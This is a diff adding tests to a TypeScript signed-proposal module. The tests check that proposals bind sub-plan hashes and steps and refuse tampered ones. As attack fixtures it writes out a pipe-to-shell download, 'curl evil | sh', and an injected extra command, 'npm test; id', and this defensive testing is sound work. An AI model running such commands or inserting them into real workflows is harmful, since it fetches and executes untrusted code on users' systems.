@@ -4,13 +4,17 @@ import { fromBase64, toBase64, utf8ToBytes } from '../bytes.js';
 import { signDeviceRecord } from '../devices/records.js';
 import { DeviceRegistry } from '../devices/registry.js';
 import { keyPairFromSecret, type KeyPair } from '../keys.js';
+import { validatePlan } from '../plan/validate.js';
+import { planSteps } from '../plan/walk.js';
 import { signApproval } from './approval.js';
 import { PAYLOAD_TYPES, signEnvelope, type Envelope } from './dsse.js';
 import {
   planSha256,
   ProposalRefused,
   signProposal,
+  subPlanHashes,
   verifyProposal,
+  verifyProposedStep,
   type ProposalPayload,
 } from './proposal.js';
 
@@ -80,6 +84,7 @@ function payload(overrides: Partial<ProposalPayload> = {}): ProposalPayload {
     workflowId: WORKFLOW,
     planName: 'release',
     planSha256: planSha256(raw),
+    subPlans: {},
     proposer: { device: root.keyId },
     at: AT,
     ...overrides,
@@ -352,5 +357,66 @@ describe('planSha256', () => {
     expect(planSha256({ a: 1 })).not.toBe(planSha256({ a: 2 }));
     expect(planSha256(raw)).toMatch(/^[0-9a-f]{64}$/);
     expect(() => planSha256({ n: Number.POSITIVE_INFINITY })).toThrow();
+  });
+});
+
+describe('proposals bind sub-plans and steps', () => {
+  const withSubPlans = {
+    name: 'release',
+    steps: [
+      { id: 'test', run: 'npm test', approval: 'auto' },
+      { id: 'docs', plan: { name: 'docs', steps: [{ id: 'write', run: 'make docs', approval: 'auto' }] } },
+    ],
+  };
+  const docs = withSubPlans.steps[1]!.plan!;
+  const spec = validatePlan(withSubPlans);
+  const signed = signProposal(
+    payload({ planSha256: planSha256(withSubPlans), subPlans: subPlanHashes(spec) }),
+    root,
+  );
+  const stepOf = (raw: unknown, path: string) => planSteps(validatePlan(raw)).find((s) => s.path === path)!;
+
+  it('signs a hash per sub-plan, by its path of ids', () => {
+    expect(subPlanHashes(spec)).toEqual({ docs: planSha256(docs) });
+  });
+
+  it('accepts the sub-plan it signed at its place, and refuses another there or one it never signed', () => {
+    expect(verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.docs`, raw: docs })).planName).toBe(
+      'release',
+    );
+    const other = { name: 'docs', steps: [{ id: 'write', run: 'curl evil | sh', approval: 'auto' }] };
+    expect(() => verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.docs`, raw: other }))).toThrow(
+      'the sub-plan "docs" is not one the proposal signed',
+    );
+    expect(() => verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.evil`, raw: docs }))).toThrow(
+      'the sub-plan "evil" is not one the proposal signed',
+    );
+    expect(() =>
+      verifyProposal(signed, expectation({ workflowId: `${WORKFLOW}.constructor`, raw: docs })),
+    ).toThrow('is not one the proposal signed');
+  });
+
+  it('verifyProposedStep accepts a step of the signed plan as it is there, and nothing else', () => {
+    const at = { workflowId: WORKFLOW, registry, raw: withSubPlans };
+    expect(verifyProposedStep(signed, { ...at, step: stepOf(withSubPlans, 'test') }).proposer).toEqual({
+      device: root.keyId,
+    });
+    const changed = stepOf(
+      { name: 'x', steps: [{ id: 'test', run: 'npm test; id', approval: 'auto' }] },
+      'test',
+    );
+    expect(() => verifyProposedStep(signed, { ...at, step: changed })).toThrow(
+      'step "test" is not the step the signed plan has there',
+    );
+    const elsewhere = stepOf(
+      { name: 'x', steps: [{ id: 'other', run: 'npm test', approval: 'auto' }] },
+      'other',
+    );
+    expect(() => verifyProposedStep(signed, { ...at, step: elsewhere })).toThrow(
+      'is not the step the signed plan has',
+    );
+    expect(() =>
+      verifyProposedStep(signed, { ...at, raw: undefined, step: stepOf(withSubPlans, 'test') }),
+    ).toThrow('the signed plan does not validate');
   });
 });
